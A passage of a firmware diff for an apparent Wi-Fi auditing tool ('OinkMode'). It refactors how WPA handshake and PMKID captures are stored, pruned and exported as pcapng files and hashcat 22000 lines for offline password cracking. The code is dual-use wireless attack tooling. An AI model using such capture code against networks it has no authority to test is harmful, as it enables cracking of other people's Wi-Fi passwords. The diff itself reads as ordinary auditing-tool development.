+            if (hasHandshakeFor(bssid)) nets[idx].hasHandshake = true;
         }
         NetworkRecon::exitCritical();
     }
@@ -1622,34 +1645,24 @@ void OinkMode::processProbeResponse(const uint8_t* payload, uint16_t len, int8_t
     
     // If network has hidden SSID, try to extract from probe response
     if (networks()[idx].ssid[0] == 0 || networks()[idx].isHidden) {
-        uint16_t offset = 36;
-        while (offset + 2 < len) {
-            uint8_t id = payload[offset];
-            uint8_t ieLen = payload[offset + 1];
+        BeaconSummary scratch;
+        const BeaconSummary& ies = NetworkRecon::summarizeBeacon(payload, len, scratch);
+        if (ies.copySsid(networks()[idx].ssid)) {
+            networks()[idx].isHidden = false;
             
-            if (offset + 2 + ieLen > len) break;
-            
-            if (id == 0 && ieLen > 0 && ieLen <= 32) {
-                memcpy(networks()[idx].ssid, payload + offset + 2, ieLen);
-                networks()[idx].ssid[ieLen] = 0;
-                networks()[idx].isHidden = false;
-                
-                // DEFERRED: Queue mood event for main thread
-                if (!pendingNewNetwork) {
-                    strncpy(pendingNetworkSSID, networks()[idx].ssid, 32);
-                    pendingNetworkSSID[32] = 0;
-                    pendingNetworkRSSI = rssi;
-                    pendingNetworkChannel = networks()[idx].channel;
-                    pendingNewNetwork = true;
-                }
-                break;
+            // DEFERRED: Queue mood event for main thread
+            if (!pendingNewNetwork) {
+                strncpy(pendingNetworkSSID, networks()[idx].ssid, 32);
+                pendingNetworkSSID[32] = 0;
+                pendingNetworkRSSI = rssi;
+                pendingNetworkChannel = networks()[idx].channel;
+                pendingNewNetwork = true;
             }
-            
-            offset += 2 + ieLen;
         }
     }
     
     networks()[idx].lastSeen = millis();
+    NetworkRecon::syncNetwork(idx);
     NetworkRecon::exitCritical();
 }
 
@@ -1886,31 +1899,33 @@ void OinkMode::processEAPOL(const uint8_t* payload, uint16_t len,
         // Protect handshake vector access with spinlock
         NetworkRecon::enterCritical();
         
-        // Revalidate index after acquiring lock
-        if (hsIdx >= (int)handshakes.size()) {
+        // Revalidate index after acquiring lock (pruneStaleHandshakes
+        // may have swapped another capture into the slot)
+        if (hsIdx >= (int)handshakes.size() ||
+            memcmp(handshakes[hsIdx].bssid, bssid, 6) != 0 ||
+            memcmp(handshakes[hsIdx].station, station, 6) != 0) {
             NetworkRecon::exitCritical();
             return;
         }
         
         CapturedHandshake& hs = handshakes[hsIdx];
         
-        // Store this frame (EAPOL payload for hashcat 22000)
+        // Store this frame: EAPOL payload for hashcat 22000 and the full
+        // 802.11 frame for PCAP export (radiotap + WPA-SEC compatibility).
+        // Sets the mask bit on success; a full arena first reclaims the
+        // oldest in-progress capture, then keeps the earlier copy.
+        // Saved captures have given their frames back and take no more.
         uint8_t frameIdx = messageNum - 1;
-        uint16_t copyLen = min((uint16_t)512, len);
-        memcpy(hs.frames[frameIdx].data, payload, copyLen);
-        hs.frames[frameIdx].len = copyLen;
-        hs.frames[frameIdx].messageNum = messageNum;
-        hs.frames[frameIdx].timestamp = millis();
-        hs.frames[frameIdx].rssi = rssi;
-        
-        // Store full 802.11 frame for PCAP export (radiotap + WPA-SEC compatibility)
-        uint16_t fullCopyLen = min((uint16_t)300, fullFrameLen);
-        memcpy(hs.frames[frameIdx].fullFrame, fullFrame, fullCopyLen);
-        hs.frames[frameIdx].fullFrameLen = fullCopyLen;
-        
-        // Update mask
-        hs.capturedMask |= (1 << frameIdx);
-        hs.lastSeen = millis();
+        bool stored = false;
+        if (!hs.saved) {
+            do {
+                stored = hs.storeFrame(frameIdx, payload, len, fullFrame, fullFrameLen, rssi,
+                                       millis(), rxChannel, rxTimeUs);
+            } while (!stored && reclaimEapolChunks(handshakes, hsIdx));
+        }
+        if (stored) {
+            hs.lastSeen = millis();
+        }
         
         // Look up SSID from networks if not set (already holding NetworkRecon critical section)
         if (hs.ssid[0] == 0) {
@@ -1943,73 +1958,16 @@ void OinkMode::processEAPOL(const uint8_t* payload, uint16_t len,
             pendingAutoSave = true;
         }
     } else {
-        // New handshake - enqueue to circular buffer for main thread
-        // Circular buffer allows queueing multiple rapid EAPOL frames (M1-M4 within ms)
-        
-        // Find or update existing slot for this handshake in the buffer
-        uint8_t targetSlot = PENDING_HS_SLOTS;  // Invalid slot marker
-        uint8_t writePos = pendingHsWrite;
-        
-        // Check if we already have a slot for this handshake (scan from read to write)
-        uint8_t scanPos = pendingHsRead;
-        while (scanPos != writePos) {
-            if (pendingHandshakes[scanPos] &&
-                memcmp(pendingHandshakes[scanPos]->bssid, bssid, 6) == 0 &&
-                memcmp(pendingHandshakes[scanPos]->station, station, 6) == 0) {
-                targetSlot = scanPos;
-                break;
-            }
-            scanPos = (scanPos + 1) % PENDING_HS_SLOTS;
-        }
-        
-        // If not found, try to allocate a new slot from static pool
-        if (targetSlot >= PENDING_HS_SLOTS) {
-            // Check if buffer is full (write pointer would catch read pointer)
-            uint8_t nextWrite = (writePos + 1) % PENDING_HS_SLOTS;
-            if (nextWrite != pendingHsRead && !pendingHsBusy[writePos] && !pendingHsAllocated[writePos]) {
-                // Slot is available - acquire from static pool (no heap ops)
-                targetSlot = writePos;
-                
-                // STATIC POOL: Point to pre-allocated slot (no malloc in callback context)
-                pendingHsAllocated[targetSlot] = true;
-                pendingHandshakes[targetSlot] = &pendingHsPool[targetSlot];
-                
-                pendingHsBusy[targetSlot] = true;  // Lock slot during init
-                
-                memcpy(pendingHandshakes[targetSlot]->bssid, bssid, 6);
-                memcpy(pendingHandshakes[targetSlot]->station, station, 6);
-                pendingHandshakes[targetSlot]->messageNum = 0;  // Deprecated field
-                pendingHandshakes[targetSlot]->capturedMask = 0;
-                pendingHandshakes[targetSlot]->hasPMKID = false;
-                
-                // Advance write pointer
-                pendingHsWrite = nextWrite;
-                
-                pendingHsBusy[targetSlot] = false;  // Unlock after init
-            }
-            // else: buffer full, drop this frame (extremely rare with 4 slots)
-        }
-        
-        // Store frame in target slot if we have one
-        if (targetSlot < PENDING_HS_SLOTS && pendingHandshakes[targetSlot] && !pendingHsBusy[targetSlot]) {
-            uint8_t frameIdx = messageNum - 1;
-            if (frameIdx < 4) {
-                pendingHsBusy[targetSlot] = true;  // Lock slot during update
-                
-                // EAPOL payload for hashcat 22000
-                uint16_t copyLen = min((uint16_t)512, len);
-                memcpy(pendingHandshakes[targetSlot]->frames[frameIdx].data, payload, copyLen);
-                pendingHandshakes[targetSlot]->frames[frameIdx].len = copyLen;
-                
-                // Full 802.11 frame for PCAP export
-                uint16_t fullCopyLen = min((uint16_t)300, fullFrameLen);
-                memcpy(pendingHandshakes[targetSlot]->frames[frameIdx].fullFrame, fullFrame, fullCopyLen);
-                pendingHandshakes[targetSlot]->frames[frameIdx].fullFrameLen = fullCopyLen;
-                pendingHandshakes[targetSlot]->frames[frameIdx].rssi = rssi;
-                
-                pendingHandshakes[targetSlot]->capturedMask |= (1 << frameIdx);
-                
-                pendingHsBusy[targetSlot] = false;  // Unlock after update
+        // New handshake - queue the frame for update() to create the entry.
+        // One slot per frame, so an M1-M4 burst from several stations
+        // within one main-loop tick is kept (drops are counted).
+        uint8_t frameIdx = messageNum - 1;
+        if (frameIdx < 4) {
+            PendingEapolFrame* slot = eapolHandoffQueue.beginPush();
+            if (slot) {
+                slot->set(bssid, station, frameIdx, payload, len, fullFrame, fullFrameLen,
+                          rssi, rxChannel, rxTimeUs);
+                eapolHandoffQueue.commitPush();
             }
         }
     }
@@ -2019,14 +1977,7 @@ int OinkMode::findOrCreateHandshake(const uint8_t* bssid, const uint8_t* station
     // CALLBACK VERSION: Lookup only, no push_back
     // If not found, returns -1 and caller must queue to pendingHandshakeCreate
     NetworkRecon::enterCritical();
-    int result = -1;
-    for (int i = 0; i < (int)handshakes.size(); i++) {
-        if (memcmp(handshakes[i].bssid, bssid, 6) == 0 &&
-            memcmp(handshakes[i].station, station, 6) == 0) {
-            result = i;
-            break;
-        }
-    }
+    int result = handshakeIndex.find(handshakes, bssid, station);
     NetworkRecon::exitCritical();
     return result;  // -1 means caller must queue for creation in main thread
 }
@@ -2035,14 +1986,7 @@ int OinkMode::findOrCreatePMKID(const uint8_t* bssid, const uint8_t* station) {
     // CALLBACK VERSION: Lookup only, no push_back
     // If not found, returns -1 and caller must queue to pendingPMKIDCreate
     NetworkRecon::enterCritical();
-    int result = -1;
-    for (int i = 0; i < (int)pmkids.size(); i++) {
-        if (memcmp(pmkids[i].bssid, bssid, 6) == 0 &&
-            memcmp(pmkids[i].station, station, 6) == 0) {
-            result = i;
-            break;
-        }
-    }
+    int result = pmkidIndex.find(pmkids, bssid, station);
     NetworkRecon::exitCritical();
     return result;  // -1 means caller must queue for creation in main thread
 }
@@ -2055,12 +1999,10 @@ int OinkMode::findOrCreateHandshakeSafe(const uint8_t* bssid, const uint8_t* sta
     NetworkRecon::enterCritical();
     
     // Look for existing
-    for (int i = 0; i < (int)handshakes.size(); i++) {
-        if (memcmp(handshakes[i].bssid, bssid, 6) == 0 &&
-            memcmp(handshakes[i].station, station, 6) == 0) {
-            NetworkRecon::exitCritical();
-            return i;
-        }
+    int existing = handshakeIndex.find(handshakes, bssid, station);
+    if (existing >= 0) {
+        NetworkRecon::exitCritical();
+        return existing;
     }
     
     // Limit check
@@ -2094,36 +2036,19 @@ int OinkMode::findOrCreateHandshakeSafe(const uint8_t* bssid, const uint8_t* sta
     hs.lastSeen = millis();
     hs.saved = false;
     hs.saveAttempts = 0;  // Start with no attempts
-    hs.beaconData = nullptr;
-    hs.beaconLen = 0;
-    
-    // Attach beacon if available
-    if (beaconCaptured && beaconFrame && beaconFrameLen > 0 && beaconFrameLen <= MAX_BEACON_SIZE) {
-        const uint8_t* beaconBssid = beaconFrame + 16;
-        if (memcmp(beaconBssid, bssid, 6) == 0) {
-            size_t largest = heap_caps_get_largest_free_block(MALLOC_CAP_8BIT);
-            if (largest >= beaconFrameLen) {
-                hs.beaconData = (uint8_t*)malloc(beaconFrameLen);
-                if (hs.beaconData) {
-                    memcpy(hs.beaconData, beaconFrame, beaconFrameLen);
-                    hs.beaconLen = beaconFrameLen;
-                }
-            }
-        }
-    }
+    
+    // No beacon reference yet: autoSaveCheck() takes one when the capture
+    // is complete, so M1-only entries do not pin the shared cache
     
     try {
         handshakes.push_back(hs);
     } catch (const std::bad_alloc&) {
-        if (hs.beaconData) {
-            free(hs.beaconData);
-            hs.beaconData = nullptr;
-        }
         NetworkRecon::exitCritical();
         SDLog::log("OINK", "Failed to create handshake: out of memory");
         return -1;
     }
     int idx = handshakes.size() - 1;
+    handshakeIndex.insert(bssid, station, (uint16_t)idx);
     NetworkRecon::exitCritical();
     return idx;
 }
@@ -2135,12 +2060,10 @@ int OinkMode::findOrCreatePMKIDSafe(const uint8_t* bssid, const uint8_t* station
     NetworkRecon::enterCritical();
     
     // Look for existing
-    for (int i = 0; i < (int)pmkids.size(); i++) {
-        if (memcmp(pmkids[i].bssid, bssid, 6) == 0 &&
-            memcmp(pmkids[i].station, station, 6) == 0) {
-            NetworkRecon::exitCritical();
-            return i;
-        }
+    int existing = pmkidIndex.find(pmkids, bssid, station);
+    if (existing >= 0) {
+        NetworkRecon::exitCritical();
+        return existing;
     }
     
     // Limit check
@@ -2177,10 +2100,31 @@ int OinkMode::findOrCreatePMKIDSafe(const uint8_t* bssid, const uint8_t* station
         return -1;
     }
     int idx = pmkids.size() - 1;
+    pmkidIndex.insert(bssid, station, (uint16_t)idx);
     NetworkRecon::exitCritical();
     return idx;
 }
 
+// Drop in-progress captures that went quiet or lost their frames to
+// reclaimEapolChunks(). Saved captures stay for counts, hasHandshakeFor()
+// and WARHOG seeding (their frames are already back in the arena).
+// Beacon refs were released by the audit that calls this.
+void OinkMode::pruneStaleHandshakes() {
+    NetworkRecon::enterCritical();
+    uint32_t now = millis();
+    bool removed = false;
+    for (int slot = (int)handshakes.size() - 1; slot >= 0; slot--) {
+        CapturedHandshake& hs = handshakes[slot];
+        if (hs.saved || hs.isComplete()) continue;
+        if (hs.capturedMask != 0 && now - hs.lastSeen < INCOMPLETE_HS_MAX_AGE) continue;
+        hs.releaseFrames();
+        CaptureSpill::removeSlot(handshakes, (size_t)slot);
+        removed = true;
+    }
+    if (removed) handshakeIndex.rebuild(handshakes);
+    NetworkRecon::exitCritical();
+}
+
 uint16_t OinkMode::getCompleteHandshakeCount() {
     uint16_t count = 0;
     for (const auto& hs : handshakes) {
@@ -2210,6 +2154,19 @@ bool OinkMode::isTargetHidden() {
     return targetCacheValid ? targetHiddenCache : false;
 }
 
+// Capture journal payload writers (ctx is the capture being saved)
+static bool journalHandshakePCAP(Print& out, const void* ctx) {
+    return OinkMode::writeHandshakePCAP(out, *static_cast<const CapturedHandshake*>(ctx));
+}
+
+static bool journalHandshake22000(Print& out, const void* ctx) {
+    return OinkMode::writeHandshake22000(out, *static_cast<const CapturedHandshake*>(ctx));
+}
+
+static bool journalPMKID22000(Print& out, const void* ctx) {
+    return OinkMode::writePMKID22000(out, *static_cast<const CapturedPMKID*>(ctx));
+}
+
 void OinkMode::autoSaveCheck() {
     // Check if SD card is available
     if (!Config::isSDAvailable()) {
@@ -2256,32 +2213,58 @@ void OinkMode::autoSaveCheck() {
                 continue;  // Wait for backoff period
             }
             
-            const char* handshakesDir = SDLayout::handshakesDir();
-
-            // Generate filename: SSID_BSSID.pcap
-            char filename[64];
-            SDLayout::buildCaptureFilename(filename, sizeof(filename),
-                                           handshakesDir, hs.ssid, hs.bssid, ".pcap");
+            // Pin the AP's beacon for the writes (put() by processBeacon
+            // while it was the target, or filled later by offer())
+            if (hs.beacon.empty()) hs.beacon = BeaconStore::acquire(hs.bssid);
             
-            // Ensure directory exists
-            if (!SD.exists(handshakesDir)) {
-                if (!SD.mkdir(handshakesDir)) {
-                    SDLog::log("OINK", "Failed to create handshakes directory");
-                    continue;  // Skip this handshake if we can't create directory
-                }
-            }
+            bool pcapOk = false;
+            bool hs22kOk = false;
             
-            // Save PCAP (for wireshark/manual analysis)
-            bool pcapOk = saveHandshakePCAP(hs, filename);
+            // Session journal: two appends to an already-open file, no
+            // directory lookups or file creates (read in place by consumers)
+            if (CaptureJournal::isOpen()) {
+                pcapOk = CaptureJournal::append(JournalFormat::RecordType::HandshakePcap,
+                                                hs.bssid, hs.station, hs.ssid,
+                                                journalHandshakePCAP, &hs);
+                hs22kOk = CaptureJournal::append(JournalFormat::RecordType::Handshake22000,
+                                                 hs.bssid, hs.station, hs.ssid,
+                                                 journalHandshake22000, &hs);
+            }
             
-            // Save 22000 format (hashcat-ready, no conversion needed)
-            char filename22000[64];
-            SDLayout::buildCaptureFilename(filename22000, sizeof(filename22000),
-                                           handshakesDir, hs.ssid, hs.bssid, "_hs.22000");
-            bool hs22kOk = saveHandshake22000(hs, filename22000);
+            // No journal (or it failed): per-network files
+            if (!pcapOk && !hs22kOk) {
+                const char* handshakesDir = SDLayout::handshakesDir();
+
+                // Generate filename: SSID_BSSID.pcap
+                char filename[64];
+                SDLayout::buildCaptureFilename(filename, sizeof(filename),
+                                               handshakesDir, hs.ssid, hs.bssid, ".pcap");
+                
+                // Ensure directory exists
+                if (!SD.exists(handshakesDir)) {
+                    if (!SD.mkdir(handshakesDir)) {
+                        SDLog::log("OINK", "Failed to create handshakes directory");
+                        continue;  // Skip this handshake if we can't create directory
+                    }
+                }
+                
+                // Save PCAP (for wireshark/manual analysis)
+                pcapOk = saveHandshakePCAP(hs, filename);
+                
+                // Save 22000 format (hashcat-ready, no conversion needed)
+                char filename22000[64];
+                SDLayout::buildCaptureFilename(filename22000, sizeof(filename22000),
+                                               handshakesDir, hs.ssid, hs.bssid, "_hs.22000");
+                hs22kOk = saveHandshake22000(hs, filename22000);
+            }
             
             if (pcapOk || hs22kOk) {
                 hs.saved = true;
+                // On SD now: the arena chunks go back for the next capture
+                NetworkRecon::enterCritical();
+                hs.releaseSavedFrames();
+                NetworkRecon::exitCritical();
+                CapturedIndex::add(hs.bssid, CapturedIndex::kHandshake);
                 SDLog::log("OINK", "Handshake saved: %s (pcap:%s 22000:%s)",
                            hs.ssid, pcapOk ? "OK" : "FAIL", hs22kOk ? "OK" : "FAIL");
             } else {
@@ -2294,12 +2277,15 @@ void OinkMode::autoSaveCheck() {
                 }
             }
             
+            // Written (or given up on): the beacon may be evicted again
+            if (hs.saved) BeaconStore::release(hs.beacon);
+            
             // Yield to watchdog/scheduler after each save (prevents WDT during mass saves)
             delay(1);
         }
     }
     
-    // Also save any unsaved PMKIDs
+    // Also save any unsaved PMKIDs (syncs the journal once for the batch)
     saveAllPMKIDs();
     
     // Resume promiscuous mode if we paused it
@@ -2308,64 +2294,20 @@ void OinkMode::autoSaveCheck() {
     }
 }
 
-// PCAP file format structures
-#pragma pack(push, 1)
-struct PCAPHeader {
-    uint32_t magic;
-    uint16_t version_major;
-    uint16_t version_minor;
-    int32_t thiszone;
-    uint32_t sigfigs;
-    uint32_t snaplen;
-    uint32_t linktype;
-};
-
-struct PCAPPacketHeader {
-    uint32_t ts_sec;
-    uint32_t ts_usec;
-    uint32_t incl_len;
-    uint32_t orig_len;
-};
-#pragma pack(pop)
-
-void OinkMode::writePCAPHeader(fs::File& f) {
-    PCAPHeader hdr = {
-        .magic = 0xA1B2C3D4,      // PCAP magic
-        .version_major = 2,
-        .version_minor = 4,
-        .thiszone = 0,
-        .sigfigs = 0,
-        .snaplen = 65535,
-        .linktype = 127           // LINKTYPE_IEEE802_11_RADIOTAP (with radiotap header)
-    };
-    f.write((uint8_t*)&hdr, sizeof(hdr));
+// PcapngWriter sink: ctx is the Print (SD file or journal record) being written
+static size_t pcapngPrintSink(void* ctx, const uint8_t* data, size_t len) {
+    return static_cast<Print*>(ctx)->write(data, len);
 }
 
-// Minimal radiotap header (8 bytes) - no optional fields
-static const uint8_t RADIOTAP_HEADER[] = {
-    0x00,       // Header revision
-    0x00,       // Header pad
-    0x08, 0x00, // Header length (8, little-endian)
-    0x00, 0x00, 0x00, 0x00  // Present flags (no optional fields)
-};
-
-void OinkMode::writePCAPPacket(fs::File& f, const uint8_t* data, uint16_t len, uint32_t ts) {
-    // Total packet length = radiotap header + 802.11 frame
-    uint32_t totalLen = sizeof(RADIOTAP_HEADER) + len;
-    
-    PCAPPacketHeader pkt = {
-        .ts_sec = ts / 1000,
-        .ts_usec = (ts % 1000) * 1000,
-        .incl_len = totalLen,
-        .orig_len = totalLen
-    };
-    f.write((uint8_t*)&pkt, sizeof(pkt));
-    
-    // Write radiotap header
-    f.write(RADIOTAP_HEADER, sizeof(RADIOTAP_HEADER));
-    
-    // Write 802.11 frame data
-    f.write(data, len);
+// Radiotap metadata for a stored EAPOL frame (timestamps in ms as before)
+static PcapngPacketMeta frameMeta(const HandshakeFrame& frame) {
+    PcapngPacketMeta meta;
+    meta.timestampUs = (uint64_t)frame.timestamp * 1000;
+    meta.tsft = frame.rxTimeUs;
+    meta.hasTsft = frame.rxTimeUs != 0;
+    meta.channel = frame.channel;
+    meta.rssi = frame.rssi;
+    return meta;
 }
 
 bool OinkMode::saveHandshakePCAP(const CapturedHandshake& hs, const char* path) {
@@ -2374,35 +2316,49 @@ bool OinkMode::saveHandshakePCAP(const CapturedHandshake& hs, const char* path)
         return false;
     }
     
-    writePCAPHeader(f);
+    bool ok = writeHandshakePCAP(f, hs);
+    f.close();
+    if (!ok) SD.remove(path);
+    return ok;
+}
+
+bool OinkMode::writeHandshakePCAP(Print& f, const CapturedHandshake& hs) {
+    PcapngWriter pcap(pcapngPrintSink, &f);
+    pcap.begin("M5PORKCHOP");
     
     int packetCount = 0;
     
+    // Beacon shares the BSS channel of the EAPOL frames (no RX metadata of its own)
+    PcapngPacketMeta beaconMeta;
+    beaconMeta.timestampUs = (uint64_t)hs.firstSeen * 1000;
+    for (int i = 0; i < 4; i++) {
+        if ((hs.capturedMask & (1 << i)) && hs.frames[i].channel) {
+            beaconMeta.channel = hs.frames[i].channel;
+            break;
+        }
+    }
+    
     // Write beacon frame first (required for hashcat to crack)
-    // Try per-handshake beacon first, fall back to global
-    if (hs.hasBeacon()) {
-        writePCAPPacket(f, hs.beaconData, hs.beaconLen, hs.firstSeen);
+    // Shared per-AP beacon; fall back to an unreferenced cached copy
+    BeaconCache::Ref beacon = hs.hasBeacon() ? hs.beacon : BeaconStore::find(hs.bssid);
+    if (BeaconStore::hasFrame(beacon)) {
+        pcap.writePacket(BeaconStore::data(beacon), BeaconStore::length(beacon), beaconMeta);
         packetCount++;
-    } else if (beaconCaptured && beaconFrame && beaconFrameLen > 0) {
-        // Verify global beacon is from same BSSID as handshake
-        const uint8_t* beaconBssid = beaconFrame + 16;
-        if (memcmp(beaconBssid, hs.bssid, 6) == 0) {
-            writePCAPPacket(f, beaconFrame, beaconFrameLen, hs.firstSeen);
-            packetCount++;
-        }
     }
     
     // Write EAPOL frames to PCAP
     for (int i = 0; i < 4; i++) {
         if (!(hs.capturedMask & (1 << i))) continue;
         
-        const EAPOLFrame& frame = hs.frames[i];
-        if (frame.len == 0) continue;
+        const HandshakeFrame& frame = hs.frames[i];
+        if (frame.len() == 0) continue;
         
         // Prefer stored fullFrame (real 802.11 capture) over reconstruction
-        if (frame.fullFrameLen > 0 && frame.fullFrameLen <= 300) {
+        if (frame.fullFrameLen() > 0 && frame.fullFrameLen() <= 300) {
             // Use the actual captured 802.11 frame (best quality)
-            writePCAPPacket(f, frame.fullFrame, frame.fullFrameLen, frame.timestamp);
+            uint8_t full[300];
+            uint16_t fullLen = copyStoredFrame(frame.fullFrame, full, sizeof(full));
+            pcap.writePacket(full, fullLen, frameMeta(frame));
             packetCount++;
         } else {
             // Fallback: reconstruct frame from EAPOL payload (legacy path)
@@ -2436,17 +2392,15 @@ bool OinkMode::saveHandshakePCAP(const CapturedHandshake& hs, const char* path)
             pktLen = 32;
             
             // EAPOL data
-            if (32 + frame.len > sizeof(pkt)) continue;
-            memcpy(pkt + 32, frame.data, frame.len);
-            pktLen += frame.len;
+            if (32 + frame.len() > sizeof(pkt)) continue;
+            pktLen += copyStoredFrame(frame.eapol, pkt + 32, sizeof(pkt) - 32);
             
-            writePCAPPacket(f, pkt, pktLen, frame.timestamp);
+            pcap.writePacket(pkt, pktLen, frameMeta(frame));
             packetCount++;
         }
     }
     
-    f.close();
-    return true;
+    return pcap.finish();
 }
 
 bool OinkMode::saveAllHandshakes() {
@@ -2456,15 +2410,33 @@ bool OinkMode::saveAllHandshakes() {
 }
 
 bool OinkMode::savePMKID22000(const CapturedPMKID& p, const char* path) {
-    // Save PMKID in hashcat 22000 format:
-    // WPA*01*PMKID*MAC_AP*MAC_CLIENT*ESSID***MESSAGEPAIR
+    File f = SD.open(path, FILE_WRITE);
+    if (!f) {
+        return false;
+    }
     
-    // Safety check: don't save all-zero PMKIDs (invalid/empty)
-    bool allZeros = true;
-    for (int i = 0; i < 16; i++) {
-        if (p.pmkid[i] != 0) { allZeros = false; break; }
+    bool ok = writePMKID22000(f, p);
+    f.close();
+    if (!ok) SD.remove(path);
+    return ok;
+}
+
+bool OinkMode::writePMKID22000(Print& f, const CapturedPMKID& p) {
+    // Write PMKID in hashcat 22000 format:
+    // WPA*01*PMKID*MAC_AP*MAC_CLIENT*ESSID***MESSAGEPAIR
+    // MESSAGEPAIR 01 = PMKID taken from AP. All-zero PMKIDs are rejected.
+    char line[Hc22000Encoder::kMaxPmkidLine];
+    size_t lineLen = Hc22000Encoder::encodePmkid(line, sizeof(line), p.pmkid, p.bssid, p.station,
+                                                 p.ssid, strnlen(p.ssid, sizeof(p.ssid)));
+    if (lineLen == 0) {
+        return false;
     }
-    if (allZeros) {
+    return f.write((const uint8_t*)line, lineLen) == lineLen;
+}
+
+bool OinkMode::saveHandshake22000(const CapturedHandshake& hs, const char* path) {
+    // Don't leave an empty file behind for an unusable message pair
+    if (hs.getMessagePair() == 0xFF) {
         return false;
     }
     
@@ -2473,44 +2445,14 @@ bool OinkMode::savePMKID22000(const CapturedPMKID& p, const char* path) {
         return false;
     }
     
-    // Build the hash line
-    // PMKID (16 bytes as 32 hex chars)
-    char pmkidHex[33];
-    for (int i = 0; i < 16; i++) {
-        sprintf(pmkidHex + i*2, "%02x", p.pmkid[i]);
-    }
-    
-    // MAC_AP (6 bytes as 12 hex chars, no colons)
-    char macAP[13];
-    sprintf(macAP, "%02x%02x%02x%02x%02x%02x",
-            p.bssid[0], p.bssid[1], p.bssid[2], 
-            p.bssid[3], p.bssid[4], p.bssid[5]);
-    
-    // MAC_CLIENT (6 bytes as 12 hex chars)
-    char macClient[13];
-    sprintf(macClient, "%02x%02x%02x%02x%02x%02x",
-            p.station[0], p.station[1], p.station[2], 
-            p.station[3], p.station[4], p.station[5]);
-    
-    // ESSID (hex-encoded, max 32 chars = 64 hex + null)
-    char essidHex[65];
-    int ssidLen = strlen(p.ssid);
-    if (ssidLen > 32) ssidLen = 32;  // Cap to max SSID length
-    for (int i = 0; i < ssidLen; i++) {
-        sprintf(essidHex + i*2, "%02x", (uint8_t)p.ssid[i]);
-    }
-    essidHex[ssidLen * 2] = 0;
-    
-    // Write: WPA*01*PMKID*MAC_AP*MAC_CLIENT*ESSID***01
-    // MESSAGEPAIR 01 = PMKID taken from AP
-    f.printf("WPA*01*%s*%s*%s*%s***01\n", pmkidHex, macAP, macClient, essidHex);
-    
+    bool ok = writeHandshake22000(f, hs);
     f.close();
-    return true;
+    if (!ok) SD.remove(path);
+    return ok;
 }
 
-bool OinkMode::saveHandshake22000(const CapturedHandshake& hs, const char* path) {
-    // Save handshake in hashcat 22000 format:
+bool OinkMode::writeHandshake22000(Print& f, const CapturedHandshake& hs) {
+    // Write handshake in hashcat 22000 format:
     // WPA*02*MIC*MAC_AP*MAC_CLIENT*ESSID*NONCE_AP*EAPOL_CLIENT*MESSAGEPAIR
     //
     // Supported message pairs:
@@ -2523,8 +2465,8 @@ bool OinkMode::saveHandshake22000(const CapturedHandshake& hs, const char* path)
     }
     
     // Determine which frames to use
-    const EAPOLFrame* nonceFrame = nullptr;  // M1 or M3 (contains ANonce)
-    const EAPOLFrame* eapolFrame = nullptr;  // M2 (contains MIC + full EAPOL)
+    const HandshakeFrame* nonceFrame = nullptr;  // M1 or M3 (contains ANonce)
+    const HandshakeFrame* eapolFrame = nullptr;  // M2 (contains MIC + full EAPOL)
     
     if (msgPair == 0x00) {
         // M1+M2: ANonce from M1, EAPOL from M2
@@ -2537,82 +2479,27 @@ bool OinkMode::saveHandshake22000(const CapturedHandshake& hs, const char* path)
     }
     
     // MIC field is at offset 81-96 (16 bytes), so we need len >= 97 to read it safely
-    if (nonceFrame->len < 51 || eapolFrame->len < 97) {
-        return false;
-    }
-    
-    File f = SD.open(path, FILE_WRITE);
-    if (!f) {
+    if (nonceFrame->len() < 51 || eapolFrame->len() < 97) {
         return false;
     }
     
-    // Extract MIC from M2 EAPOL frame (offset 81, 16 bytes)
-    // EAPOL-Key: ver(1)+type(1)+len(2)+desc(1)+keyinfo(2)+keylen(2)+replay(8)+nonce(32)+iv(16)+rsc(8)+reserved(8)+MIC(16)
-    // Offsets: 0-3=EAPOL hdr, 4=desc, 5-6=keyinfo, 7-8=keylen, 9-16=replay, 17-48=nonce, 49-64=iv, 65-72=rsc, 73-80=reserved, 81-96=MIC
-    char micHex[33];
-    for (int i = 0; i < 16; i++) {
-        sprintf(micHex + i*2, "%02x", eapolFrame->data[81 + i]);
-    }
-    
-    // MAC_AP (6 bytes as 12 hex chars)
-    char macAP[13];
-    sprintf(macAP, "%02x%02x%02x%02x%02x%02x",
-            hs.bssid[0], hs.bssid[1], hs.bssid[2],
-            hs.bssid[3], hs.bssid[4], hs.bssid[5]);
-    
-    // MAC_CLIENT (6 bytes as 12 hex chars)
-    char macClient[13];
-    sprintf(macClient, "%02x%02x%02x%02x%02x%02x",
-            hs.station[0], hs.station[1], hs.station[2],
-            hs.station[3], hs.station[4], hs.station[5]);
-    
-    // ESSID (hex-encoded, max 32 chars = 64 hex + null)
-    char essidHex[65];
-    int ssidLen = strlen(hs.ssid);
-    if (ssidLen > 32) ssidLen = 32;  // Cap to max SSID length
-    for (int i = 0; i < ssidLen; i++) {
-        sprintf(essidHex + i*2, "%02x", (uint8_t)hs.ssid[i]);
-    }
-    essidHex[ssidLen * 2] = 0;
-    
-    // ANonce from M1 or M3 (offset 17, 32 bytes)
-    char nonceHex[65];
-    for (int i = 0; i < 32; i++) {
-        sprintf(nonceHex + i*2, "%02x", nonceFrame->data[17 + i]);
-    }
-    
-    // Full EAPOL frame from M2 (hex-encoded)
-    // The EAPOL frame length is in bytes 2-3 (big-endian) + 4 bytes header
-    uint16_t eapolLen = (eapolFrame->data[2] << 8) | eapolFrame->data[3];
-    eapolLen += 4;  // Add EAPOL header (version + type + length)
-    if (eapolLen > eapolFrame->len) eapolLen = eapolFrame->len;
-    
-    // Allocate buffer for hex-encoded EAPOL (2 chars per byte)
-    // Max EAPOL is 512 bytes = 1024 hex chars + null
-    static char eapolHex[1025];
-    if (eapolLen * 2 + 1 > sizeof(eapolHex)) {
-        f.close();
+    // Copy the frames out of the EAPOL arena (ANonce ends at offset 49)
+    uint8_t nonceData[Hc22000Encoder::kMinNonceFrameLen];
+    uint8_t eapolCopy[Hc22000Encoder::kMaxEapolLen];
+    copyStoredFrame(nonceFrame->eapol, nonceData, sizeof(nonceData));
+    uint16_t eapolCopyLen = copyStoredFrame(eapolFrame->eapol, eapolCopy, sizeof(eapolCopy));
+    uint16_t eapolLen = Hc22000Encoder::eapolFrameLength(eapolCopy, eapolCopyLen);
+    
+    // Static: up to 1.2KB, too much for the callers' stacks
+    static char line[Hc22000Encoder::kMaxHandshakeLine];
+    size_t lineLen = Hc22000Encoder::encodeHandshake(line, sizeof(line), hs.bssid, hs.station,
+                                                     hs.ssid, strnlen(hs.ssid, sizeof(hs.ssid)),
